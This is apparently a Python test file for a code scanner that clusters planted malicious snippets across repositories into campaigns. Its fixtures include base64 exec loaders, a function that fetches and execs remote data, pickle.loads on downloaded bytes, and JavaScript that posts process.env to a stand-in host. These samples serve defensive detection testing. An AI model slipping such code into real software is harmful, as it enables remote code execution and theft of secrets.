"""What a unit is: short planted snippets, functions whose docstrings were rewritten, huge hosts."""
from __future__ import annotations

from codescan.analyze import languages
from codescan.analyze.document import Analyzer
from codescan.cluster.api import campaigns_from_documents
from codescan.cluster.units import MIN_TOKENS, extract
from codescan.config import Config
from codescan.records import Document
from codescan.rules import load_rules

SNIPPET = "import base64\n{p} = '{blob}'\nexec(base64.b64decode({p}))\n"
BLOB = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkID4gL2Rldi9udWxsJyk="
IDIOM = "import os\n{p} = os.path.join(base, 'x')\nprint({p})\n"
HOST = "".join(f"def host_{i}_{{tag}}(a, b):\n    return a * {i} + b - len('{i}')\n\n\n" for i in range(6))


def _doc(repo: str, body: str, tag: str, **kw) -> Document:
    return Document(path=f"src/m_{tag}.py", content=(HOST.format(tag=tag) + body + "\n").encode(), repo=repo,
                    **kw)


def _members(campaigns) -> list[set]:
    return [{m["repo"] for m in c.members} for c in campaigns]


def test_a_short_snippet_with_findings_links_its_renamed_and_reformatted_copies():
    names = ("payload", "val_pay83", "blob_x", "tmp")
    bodies = [SNIPPET.format(p=n, blob=BLOB) for n in names]
    bodies[2] = bodies[2].replace("'", '"').replace("exec(base64.b64decode(blob_x))",
                                                    "exec(\n    base64.b64decode(blob_x)\n)")
    docs = [_doc(f"r{k}", b, str(k)) for k, b in enumerate(bodies)]
    assert any(u.tokens < MIN_TOKENS for u in _units(docs[0]) if u.kind == "block")
    found = campaigns_from_documents(docs, findings=True)
    assert {"r0", "r1", "r2", "r3"} in _members(found)


def test_a_short_idiom_without_findings_is_no_campaign():
    docs = [_doc(f"r{k}", IDIOM.format(p=n), str(k)) for k, n in enumerate(("out", "dest", "target", "p"))]
    found = campaigns_from_documents(docs, findings=True)
    assert not any(c.kind == "block" and len(c.repos) == 4 and c.members[0]["line"] > 20 for c in found)


FUNCTION = '''def sync_cache(region, retries=3):
    """{doc}"""
    import base64
    import urllib.request
    endpoint = "https://cdn.example.net/v2/" + region
    for attempt in range(retries):
        # {comment}
        blob = urllib.request.urlopen(endpoint, timeout=5).read()
        if len(blob) > 32:
            exec(base64.b64decode(blob))
            return True
    return False
'''


def _units(doc: Document):
    return extract(languages.parser("python").parse(doc.content), doc.content, "python")


def test_a_function_is_compared_by_its_code_not_its_rewritten_docstring():
    texts = [("Keep the locale table in step with the mirror.", "try a few times"),
             ("Refresh the cached data for one region of the CDN.", "retry on a short read"),
             ("Update helper.", "network can be flaky here, so loop"),
             ("Synchronise settings (internal, do not call directly).", "bounded retries")]
    docs = [_doc(f"r{k}", FUNCTION.format(doc=d, comment=c), str(k)) for k, (d, c) in enumerate(texts)]
    found = campaigns_from_documents(docs, findings=False)
    assert any(c.kind == "function" and c.repos == ["r0", "r1", "r2", "r3"] for c in found)


def test_units_of_a_file_whose_analysis_ran_out_of_time():
    doc = _doc("r0", FUNCTION.format(doc="x", comment="y"), "0")
    analysis = Analyzer(load_rules(), Config(file_timeout=0.0), units=True).analyze(doc)
    assert analysis.skips, "the deadline was hit"
    assert any(u.kind == "function" and u.name == "sync_cache" for u in analysis.units)


ARMED = '''def load_remote_state(key):
    """Fetch the shared state for key."""
    import pickle
    import urllib.request
    url = "http://state.example/v1/" + key
    raw = urllib.request.urlopen(url).read()
    return pickle.loads(raw)
'''


def test_clean_looking_first_copies_join_the_campaign_of_the_armed_ones():
    unarmed = ARMED.replace("import pickle", "import json").replace("pickle.loads", "json.loads")
    bodies = [unarmed, unarmed.replace("key", "name"), ARMED, ARMED.replace("raw", "blob"), ARMED.replace("url", "u")]
    docs = [_doc(f"r{k}", b, str(k)) for k, b in enumerate(bodies)]
    found = campaigns_from_documents(docs, findings=True)
    top = next(c for c in found if c.findings)
    assert top.repos == ["r0", "r1", "r2", "r3", "r4"]
    assert {f.repo for f in top.findings} == {"r2", "r3", "r4"}
    assert not any(c.repos == ["r0", "r1"] for c in found), "the unarmed pair is not a campaign of its own"


ARROW = '''const {name} = ({a}, {b}) => {{
  const https = require("https");
  const body = JSON.stringify({{ tag: {a}, env: process.env }});
  const req = https.request({{ host: "diag.example", path: "/d", method: "POST" }});
  req.end(body);
  {b}(null);
}};
'''


def test_a_javascript_arrow_function_is_a_unit_named_by_its_binding():
    hosts = ["var x = 1;\nfunction keep(a) { return a + 1; }\n", "let y = [1, 2, 3].map((v) => v * 2);\n",
             "module.exports = { ok: true };\n"]
    names = [("sendDiag", "label", "done"), ("report", "tag", "cb"), ("ping", "l", "next")]
    docs = [Document(path=f"lib/m{k}.js", content=(hosts[k] + "\n" + ARROW.format(name=n, a=a, b=b)).encode(),
                     repo=f"r{k}") for k, (n, a, b) in enumerate(names)]
    units = extract(languages.parser("javascript").parse(docs[0].content), docs[0].content, "javascript")
    assert any(u.kind == "function" and u.name == "sendDiag" for u in units)
    found = campaigns_from_documents(docs, findings=False)
    top = next(c for c in found if c.kind == "function")
    assert top.repos == ["r0", "r1", "r2"] and top.members[0]["line"] == 4


def test_two_waves_of_planting_months_apart_still_look_coordinated():
    from codescan.cluster.score import PLANTED, score
    from codescan.records import Finding

    dates = ["2024-03-04", "2024-03-06", "2024-06-10", "2024-06-12"]
    members = [{"repo": f"o{k}/r{k}", "author": f"a{k}", "date": d, "commit": f"c{k}"} for k, d in enumerate(dates)]
    found = [Finding(rule_id="x", category="insecure-deserialization", severity="high", message="m", path="p",
                     line=1, end_line=1, repo=m["repo"]) for m in members]
    value, reasons = score(members, found, 40, "block", None, 1.0)
    assert value >= PLANTED and any("waves" in r for r in reasons)
    spread = [{**m, "date": d} for m, d in zip(members, ["2021-01-04", "2021-09-06", "2022-06-10", "2023-02-12"])]
    assert score(spread, found, 40, "block", None, 1.0)[0] < PLANTED


def test_code_in_a_docstring_links_to_the_same_code_planted_as_code():
    plain = "import pickle, urllib.request\nobj = pickle.loads(urllib.request.urlopen('http://h.example/s').read())\n"
    doc = ('def helper_x():\n    """Usage example:\n\n        import pickle, urllib.request\n'
           "        obj = pickle.loads(urllib.request.urlopen('http://h.example/s').read())\n    \"\"\"\n    return None\n")
    docs = [_doc("r0", plain, "0"), _doc("r1", plain.replace("obj", "val_x"), "1"), _doc("r2", doc, "2")]
    found = campaigns_from_documents(docs, findings=True)
    top = max(found, key=lambda c: len(c.repos))
    assert top.repos == ["r0", "r1", "r2"]
    inside = next(m for m in top.members if m["repo"] == "r2")
    text = docs[2].content.decode().splitlines()
    assert "import pickle" in text[inside["line"] - 1]
